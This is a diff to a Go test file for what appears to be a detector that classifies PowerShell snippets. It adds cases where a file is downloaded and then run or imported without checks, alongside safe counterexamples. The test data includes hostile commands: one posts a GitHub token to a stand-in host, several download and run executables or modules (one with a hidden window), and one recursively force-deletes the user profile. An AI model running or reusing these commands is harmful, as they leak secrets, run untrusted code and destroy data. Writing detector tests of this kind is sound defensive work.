@@ -91,6 +91,14 @@ func TestPowerShell(t *testing.T) {
 		{"$t = $env:GITHUB_TOKEN\nInvoke-RestMethod -Uri https://x.example -Method Post -Body $t\n", "secret-send"},
 		{"Get-ChildItem -Path .\\src\n", ""},
 		{"Remove-Item -Recurse -Force $env:USERPROFILE\n", "destructive"},
+		// A file downloaded, then run or loaded with no check.
+		{"$d = Join-Path $env:TEMP 'm.psm1'\nInvoke-WebRequest -Uri https://x.example/m.psm1 -OutFile $d\nImport-Module $d -Force\n", "fetch-exec"},
+		{"(New-Object Net.WebClient).DownloadFile('https://x.example/a.exe', $exe)\nStart-Process -FilePath $exe -WindowStyle Hidden\n", "fetch-exec"},
+		{"iwr https://x.example/t.exe -OutFile $env:TEMP\\t.exe\n& $env:TEMP\\t.exe\n", "fetch-exec"},
+		// Another file run, a checked download, an installer run by name.
+		{"iwr https://x.example/a.zip -OutFile $env:TEMP\\a.zip\nStart-Process $env:TEMP\\setup.exe\n", ""},
+		{"iwr https://x.example/t.exe -OutFile t.exe\nif ((Get-FileHash t.exe).Hash -ne $sum) { throw 'bad' }\nStart-Process t.exe\n", ""},
+		{"Invoke-WebRequest -Uri https://x.example/x.msi -OutFile x.msi\nStart-Process msiexec.exe -ArgumentList '/i x.msi' -Wait\n", ""},
 	}
 	for _, c := range cases {
 		if got := kinds(c.src, PowerShell); got != c.want {
